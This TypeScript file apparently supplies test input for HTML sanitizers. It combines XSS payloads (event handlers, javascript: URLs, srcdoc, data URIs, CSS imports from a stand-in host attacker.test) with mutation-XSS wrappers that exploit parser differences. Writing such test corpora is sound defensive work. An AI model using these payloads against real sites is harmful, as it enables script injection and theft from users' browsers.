// Markup of the kinds that have got past sanitizers of HTML. Whoever makes no markup of text has nothing to fear of them.
const script = 'window.xss=1';

/** Elements that run, load or hold something, with what makes them do it. */
const active: readonly string[] = [
  `<img src=x onerror=${script}>`,
  `<script>${script}</script>`,
  `<svg onload=${script}>`,
  `<a href="javascript:${script}">x</a>`,
  `<a href="java&Tab;script&colon;${script}">x</a>`,
  `<iframe srcdoc="&lt;script&gt;parent.${script}&lt;/script&gt;"></iframe>`,
  `<object data="data:text/html,<script>parent.${script}</script>"></object>`,
  `<embed src="javascript:${script}">`,
  `<video><source onerror=${script}></video>`,
  `<input autofocus onfocus=${script}>`,
  `<details open ontoggle=${script}>`,
  `<form action="javascript:${script}"><button id=attributes name=parentNode>x</button></form>`,
  `<style>@import "https://attacker.test/a.css"; *{background:url(https://attacker.test/b)}</style>`,
  `<p style="behavior:url(x);-moz-binding:url(x);position:fixed" id=app class=main>x</p>`,
  '<base href="https://attacker.test/"><link rel=stylesheet href=a.css><meta http-equiv=refresh content="0;url=//attacker.test">',
  `<svg><animate attributeName=href values=javascript:${script} /><use href="data:image/svg+xml,<svg id=x/>#x"/></svg>`,
];

/** Places in which a parser reads them as something else than it does the second time, or than another parser does. */
const hidden: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => markup.toUpperCase(),
  (markup) => markup.replaceAll(' ', '/'),
  (markup) => markup.replaceAll('<', '<\u0000'),
  (markup) => markup.replaceAll('>', ''),
  (markup) => `<noscript><p title="</noscript>${markup}">`,
  (markup) => `<math><mtext><table><mglyph><style><!--</style>${markup}`,
  (markup) => `<svg></p><style><a id="</style>${markup}">`,
  (markup) => `<form><math><mtext></form><form><mglyph><style></math>${markup}`,
  (markup) => `<template><s><template>${markup}</template></s></template>`,
  (markup) => `<select><option></select>${markup}`,
  (markup) => `<textarea></textarea>${markup}<title></title>${markup}<xmp></xmp>${markup}`,
  (markup) => `<!--><!-- --!>${markup}<!-- -->`,
  (markup) => `<![CDATA[ ]]>${markup}<?xml ?>${markup}<!DOCTYPE x [<!ENTITY y "z">]>`,
  (markup) => `<svg><foreignObject><annotation-xml encoding="text/html">${markup}</annotation-xml>`,
  (markup) => `\uFEFF\u2028${markup}\u0085`,
];

export const markup: readonly string[] = active.flatMap((one) => hidden.map((hide) => hide(one)));
